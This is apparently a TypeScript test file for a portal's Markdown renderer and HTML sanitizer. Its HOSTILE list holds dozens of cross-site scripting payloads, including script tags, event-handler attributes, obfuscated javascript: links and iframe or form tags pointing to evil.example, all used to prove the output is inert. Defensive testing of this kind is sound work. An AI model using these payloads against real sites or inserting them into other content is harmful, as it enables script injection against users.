import fc from 'fast-check';
import { renderRichText, sanitizeRichHtml } from '@/lib/content/rich-text';

const ALLOWED_TAGS = new Set(
  'span p br strong b em i ul ol li a h3 h4 blockquote code pre hr table thead tbody tr th td'.split(' '),
);

/**
 * Nothing that can run script may survive: every element is on the allowlist, the only attributes are
 * href/rel/scope, and every href is http(s), mailto, tel or relative. Text that merely reads
 * "javascript:" or "<script>" is escaped text and harmless.
 */
function assertInert(html: string) {
  for (const [, name, attrs] of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)) {
    expect(ALLOWED_TAGS).toContain(name.toLowerCase());
    for (const [, attr, value] of attrs.matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g)) {
      expect(['href', 'rel', 'scope']).toContain(attr.toLowerCase());
      if (attr === 'href') {
        const decoded = value
          .replace(/&amp;/g, '&')
          .replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n)));
        // What a browser would follow: resolved against the page, the scheme must be a harmless one.
        const url = new URL(decoded, 'https://portal.example/fa/news/x');
        expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(url.protocol);
        if (decoded.startsWith('//')) throw new Error(`protocol-relative link survived: ${decoded}`);
      }
    }
  }
  expect(html).not.toMatch(/<\s*script/i);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '<javascript:alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div onclick="alert(1)">click</div>',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<details open ontoggle=alert(1)>',
  '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
  '```html\n<script>alert(1)</script>\n```',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
];

describe('rich text: Markdown rendered, then sanitized with an allowlist', () => {
  test.each(HOSTILE)('hostile input is inert: %s', (input) => {
    assertInert(renderRichText(input));
    assertInert(sanitizeRichHtml(input));
  });

  test('ordinary formatting survives, in Persian and English', () => {
    const html = renderRichText(
      'بند اول با **متن پررنگ** و *کج*.\n\nبند دوم با [پیوند](https://www.saorg.ir/x).\n\n- یک\n- دو\n\n[FAQ](/fa/faq)',
    );
    expect(html).toContain('<p>بند اول با <strong>متن پررنگ</strong> و <em>کج</em>.</p>');
    expect(html).toContain('<a href="https://www.saorg.ir/x" rel="noopener noreferrer nofollow">پیوند</a>');
    expect(html).toContain('<ul>');
    expect(html).toContain('<li>یک</li>');
    expect(html).toContain('<a href="/fa/faq">FAQ</a>');
  });

  test('a link to a refused target stays as its text, not as a dead link', () => {
    expect(renderRichText('[click](javascript:alert(1)) and [far](//evil.example/x)')).toBe(
      '<p><span>click</span> and <span>far</span></p>\n',
    );
  });

  test('headings are moved under the page heading (h1/h2 → h3)', () => {
    expect(renderRichText('# عنوان\n\n## زیر')).toBe('<h3>عنوان</h3>\n<h3>زیر</h3>\n');
  });

  test('the seeded plain-text bodies render as the same paragraphs as before', () => {
    expect(renderRichText('بند یک.\n\nبند دو.')).toBe('<p>بند یک.</p>\n<p>بند دو.</p>\n');
  });

  test('any text at all comes out inert (property)', () => {
    const pieces = fc.constantFrom(
      '<script>',
      '</script>',
      '<img src=x ',
      'onerror=',
      'javascript:',
      '&#106;',
      '<a href="',
      '">',
      '[x](',
      ')',
      '<svg ',
      'style=',
      '\n\n',
      'متن ',
      '"',
      "'",
      '<',
      '>',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        assertInert(renderRichText(parts.join('')));
      }),
      { numRuns: 500 },
    );
  });
});
